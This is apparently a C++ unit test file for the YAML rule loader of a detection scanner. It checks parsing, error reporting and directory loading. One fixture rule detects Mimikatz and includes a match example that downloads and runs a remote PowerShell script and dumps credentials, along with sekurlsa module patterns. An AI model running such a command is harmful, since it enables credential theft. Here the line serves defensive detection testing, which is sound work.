#include "signatures/rule_loader.h"

#include <filesystem>
#include <fstream>
#include <string>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace sbscan::signatures {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

TEST(RuleLoaderTest, ParsesEveryKey) {
  auto rules = ParseRules(R"(# a comment
id: sbscan.cred.mimikatz
title: Mimikatz invocation
description: >
  Invoke-Mimikatz or a sekurlsa:: module name.
level: high
tags: [attack.credential_access, attack.t1003.001, attack.T1059, other.tag, attack.t1003.001]
patterns:
  invoke: Invoke-Mimikatz
  module: {regex: 'sekurlsa::(logonpasswords|pth|tickets)', cased: true}
  path_hit: {literal: '\mimikatz', field: path}
  warned: {level: 3}
condition: invoke or module
examples:
  match:
    - "IEX (iwr https://x/a.ps1); Invoke-Mimikatz -DumpCreds"
    - {text: "Write-Host hi", level: 3, path: 'C:\t\mimikatz.ps1'}
  no_match:
    - "Get-Help about_Mimikatz_Detection"
)",
                          "rules/cred.yml");
  ASSERT_TRUE(rules.ok()) << rules.status();
  ASSERT_EQ(rules->size(), 1u);
  const Rule& r = (*rules)[0];
  EXPECT_EQ(r.id, "sbscan.cred.mimikatz");
  EXPECT_EQ(r.title, "Mimikatz invocation");
  EXPECT_EQ(r.description, "Invoke-Mimikatz or a sekurlsa:: module name.\n");
  EXPECT_EQ(r.level, Level::kHigh);
  EXPECT_EQ(r.source_file, "rules/cred.yml");
  EXPECT_EQ(r.source_line, 2);
  EXPECT_EQ(r.ruleset, "bundled");
  EXPECT_EQ(r.tags.size(), 5u);
  EXPECT_THAT(r.technique_ids, ElementsAre("T1003.001", "T1059"));
  EXPECT_THAT(r.tactics, ElementsAre("credential-access"));
  ASSERT_EQ(r.patterns.size(), 4u);
  EXPECT_EQ(r.patterns[0].name, "invoke");
  EXPECT_EQ(r.patterns[0].kind, Pattern::Kind::kLiteral);
  EXPECT_EQ(r.patterns[0].value, "Invoke-Mimikatz");
  EXPECT_FALSE(r.patterns[0].cased);
  EXPECT_EQ(r.patterns[0].field, Field::kText);
  EXPECT_EQ(r.patterns[0].line, 9);
  EXPECT_EQ(r.patterns[1].kind, Pattern::Kind::kRegex);
  EXPECT_TRUE(r.patterns[1].cased);
  EXPECT_EQ(r.patterns[2].field, Field::kPath);
  EXPECT_EQ(r.patterns[2].value, "\\mimikatz");
  EXPECT_EQ(r.patterns[3].kind, Pattern::Kind::kLevel);
  EXPECT_EQ(r.patterns[3].level, 3);
  EXPECT_EQ(r.condition, "invoke or module");
  ASSERT_EQ(r.examples.size(), 3u);
  EXPECT_TRUE(r.examples[0].must_match);
  EXPECT_EQ(r.examples[0].line, 16);
  EXPECT_EQ(r.examples[0].level, 4);
  EXPECT_EQ(r.examples[1].text, "Write-Host hi");
  EXPECT_EQ(r.examples[1].level, 3);
  EXPECT_EQ(r.examples[1].path, "C:\\t\\mimikatz.ps1");
  EXPECT_FALSE(r.examples[2].must_match);
  EXPECT_EQ(r.examples[2].text, "Get-Help about_Mimikatz_Detection");
}

TEST(RuleLoaderTest, MultipleDocumentsAndDefaults) {
  auto rules = ParseRules("id: a\ntitle: A\nlevel: low\npatterns:\n  x: foo\n---\n"
                          "id: b\ntitle: B\nlevel: CRITICAL\npatterns:\n  y: bar\n---\n",
                          "f.yml");
  ASSERT_TRUE(rules.ok()) << rules.status();
  ASSERT_EQ(rules->size(), 2u);
  EXPECT_EQ((*rules)[0].condition, "1 of them");
  EXPECT_EQ((*rules)[1].id, "b");
  EXPECT_EQ((*rules)[1].source_line, 7);
  EXPECT_EQ((*rules)[1].level, Level::kCritical);
}

TEST(RuleLoaderTest, LevelNames) {
  EXPECT_EQ(LevelName(Level::kInformational), "informational");
  EXPECT_EQ(LevelName(Level::kCritical), "critical");
  EXPECT_EQ(ParseLevel("medium"), Level::kMedium);
  EXPECT_EQ(ParseLevel("High"), Level::kHigh);
  EXPECT_EQ(ParseLevel("severe"), std::nullopt);
  EXPECT_EQ(ParseLevel(""), std::nullopt);
}

struct ErrorCase {
  const char* yaml;
  const char* message;  // expected substring, after "bad.yml:LINE: rule 'ID'"
};

class RuleLoaderErrorTest : public ::testing::TestWithParam<ErrorCase> {};

TEST_P(RuleLoaderErrorTest, NamesFileLineAndRule) {
  auto rules = ParseRules(GetParam().yaml, "bad.yml");
  ASSERT_FALSE(rules.ok());
  EXPECT_EQ(rules.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(std::string(rules.status().message()), HasSubstr(GetParam().message));
}

constexpr char kHead[] = "id: r.x\ntitle: T\nlevel: low\n";

INSTANTIATE_TEST_SUITE_P(
    Errors, RuleLoaderErrorTest,
    ::testing::Values(
        ErrorCase{"title: T\nlevel: low\npatterns: {a: b}\n",
                  "bad.yml:1: rule #1 (no id yet): missing required key 'id'"},
        ErrorCase{"id: r.x\nlevel: low\npatterns: {a: b}\n",
                  "bad.yml:1: rule 'r.x': missing required key 'title'"},
        ErrorCase{"id: r.x\ntitle: T\npatterns: {a: b}\n",
                  "bad.yml:1: rule 'r.x': missing required key 'level'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\n",
                  "bad.yml:1: rule 'r.x': missing required key 'patterns'"},
        ErrorCase{"title: T\nid: r.x\nlevel: severe\npatterns: {a: b}\n",
                  "bad.yml:3: rule 'r.x': bad level 'severe'"},
        ErrorCase{"id: R X\ntitle: T\nlevel: low\npatterns: {a: b}\n",
                  "bad.yml:1: rule #1 (no id yet): bad id 'R X'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\ncolour: red\npatterns: {a: b}\n",
                  "bad.yml:4: rule 'r.x': unknown key 'colour'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\nreferences: http://x\npatterns: {a: b}\n",
                  "bad.yml:4: rule 'r.x': 'references' must be a list of strings"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  bad-name: x\n",
                  "bad.yml:5: rule 'r.x': bad pattern name 'bad-name'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  and: x\n",
                  "bad.yml:5: rule 'r.x': bad pattern name 'and'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: ''\n",
                  "bad.yml:5: rule 'r.x': pattern 'a': empty literal"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {regex: ''}\n",
                  "bad.yml:5: rule 'r.x': pattern 'a': empty regex"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {literal: x, regex: y}\n",
                  "bad.yml:5: rule 'r.x': pattern 'a' must have exactly one of"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {literal: x, field: body}\n",
                  "rule 'r.x': pattern 'a': field must be 'text' or 'path'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {literal: x, cased: maybe}\n",
                  "bad.yml:5: rule 'r.x': 'cased' must be true or false"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {level: x}\n",
                  "bad.yml:5: rule 'r.x': 'level' must be an integer"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {level: 3, field: path}\n",
                  "bad.yml:5: rule 'r.x': pattern 'a': a level pattern takes no"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: {literal: x, color: red}\n",
                  "bad.yml:5: rule 'r.x': pattern 'a': unknown key 'color'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: [x, y]\n",
                  "bad.yml:5: rule 'r.x': pattern 'a' must be a string"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns:\n  a: x\n  a: y\n",
                  "bad.yml:6: rule 'r.x': duplicate pattern name 'a'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns: {}\n",
                  "bad.yml:4: rule 'r.x': 'patterns' must be a non-empty mapping"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns: {a: x}\nexamples:\n  match:\n"
                  "    - [1, 2]\n",
                  "bad.yml:7: rule 'r.x': examples.match: an entry must be a string or a "
                  "mapping"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns: {a: x}\nexamples:\n  match:\n"
                  "    - {text: x, host: y}\n",
                  "bad.yml:7: rule 'r.x': examples.match: unknown key 'host'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns: {a: x}\nexamples:\n  maybe: []\n",
                  "bad.yml:6: rule 'r.x': examples: unknown key 'maybe'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\ntags: attack.t1000\npatterns: {a: x}\n",
                  "bad.yml:4: rule 'r.x': 'tags' must be a list"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\nlevel: high\npatterns: {a: x}\n",
                  "bad.yml:4: rule 'r.x': duplicate key 'level'"},
        ErrorCase{"id: r.x\ntitle: T\nlevel: low\npatterns: {a: x}\n---\n"
                  "id: r.x\ntitle: T\nlevel: low\npatterns: {a: x}\n",
                  "bad.yml:6: rule 'r.x': duplicate rule id (first defined at line 1)"},
        ErrorCase{"id: r.x\ntitle: [unclosed\n", "bad.yml:"},
        ErrorCase{"- just\n- a list\n", "bad.yml:1: rule #1 (no id yet): a rule must be a YAML "
                                        "mapping"}));

class LoadRuleFilesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = std::filesystem::temp_directory_path() /
           ("sbscan_loader_" + std::to_string(::getpid()));
    std::filesystem::remove_all(dir_);
    std::filesystem::create_directories(dir_ / "sub");
  }
  void TearDown() override { std::filesystem::remove_all(dir_); }
  void Write(const std::string& rel, const std::string& content) {
    std::ofstream(dir_ / rel) << content;
  }
  std::filesystem::path dir_;
};

TEST_F(LoadRuleFilesTest, DirectoriesRecursiveSortedAndDuplicates) {
  Write("b.yml", "id: b\ntitle: B\nlevel: low\npatterns: {a: x}\n");
  Write("sub/a.yaml", "id: c\ntitle: C\nlevel: low\npatterns: {a: x}\n");
  Write("a.yml", "id: a\ntitle: A\nlevel: low\npatterns: {a: x}\n");
  Write("notes.txt", "not a rule");
  auto rules = LoadRuleFiles({dir_.string()});
  ASSERT_TRUE(rules.ok()) << rules.status();
  ASSERT_EQ(rules->size(), 3u);
  EXPECT_EQ((*rules)[0].id, "a");
  EXPECT_EQ((*rules)[1].id, "b");
  EXPECT_EQ((*rules)[2].id, "c");
  EXPECT_EQ((*rules)[2].source_file, (dir_ / "sub/a.yaml").string());

  Write("sub/dup.yml", "\n\nid: a\ntitle: A\nlevel: low\npatterns: {a: x}\n");
  rules = LoadRuleFiles({dir_.string()});
  ASSERT_FALSE(rules.ok());
  EXPECT_THAT(std::string(rules.status().message()),
              HasSubstr("sub/dup.yml:3: rule 'a': duplicate rule id (first defined at " +
                        (dir_ / "a.yml").string() + ":1)"));
}

TEST_F(LoadRuleFilesTest, MissingPathAndSingleFile) {
  auto rules = LoadRuleFiles({(dir_ / "nope.yml").string()});
  ASSERT_FALSE(rules.ok());
  EXPECT_EQ(rules.status().code(), absl::StatusCode::kNotFound);
  Write("one.yml", "id: one\ntitle: One\nlevel: low\npatterns: {a: x}\n");
  rules = LoadRuleFiles({(dir_ / "one.yml").string()});
  ASSERT_TRUE(rules.ok()) << rules.status();
  EXPECT_EQ(rules->size(), 1u);
}

// Regression (found by tests/fuzz/sigma_loader_fuzzer): yaml-cpp 0.7's LoadAll never returned,
// growing memory without bound, on a stream with a stray flow indicator such as a lone ",".
TEST(RuleLoaderTest, StreamsThatStallYamlCppAreErrors) {
  for (const char* yaml : {",", ",\n", ",,,,id: x\ntitle: t\npatterns:\n  a: b\n", "\n,\n    "}) {
    auto rules = ParseRules(yaml, "stall.yml");
    EXPECT_FALSE(rules.ok()) << yaml;
  }
  auto ok = ParseRules("id: a\ntitle: A\nlevel: low\npatterns:\n  p: x\n---\n---\n", "ok.yml");
  EXPECT_TRUE(ok.ok()) << ok.status();
}

TEST(RuleLoaderTest, ReadsMetadataForAlerts) {
  auto rules = ParseRules(
      "id: r.meta\ntitle: T\nlevel: low\nstatus: stable\nauthor: Blue team\n"
      "references: [https://a.example/1, https://a.example/2]\nfalsepositives: [Admins]\n"
      "patterns: {a: b}\n",
      "meta.yml");
  ASSERT_TRUE(rules.ok()) << rules.status();
  ASSERT_EQ(rules->size(), 1u);
  const Rule& r = (*rules)[0];
  EXPECT_EQ(r.status, "stable");
  EXPECT_EQ(r.author, "Blue team");
  EXPECT_THAT(r.references, ::testing::ElementsAre("https://a.example/1", "https://a.example/2"));
  EXPECT_THAT(r.falsepositives, ::testing::ElementsAre("Admins"));
}

}  // namespace
}  // namespace sbscan::signatures
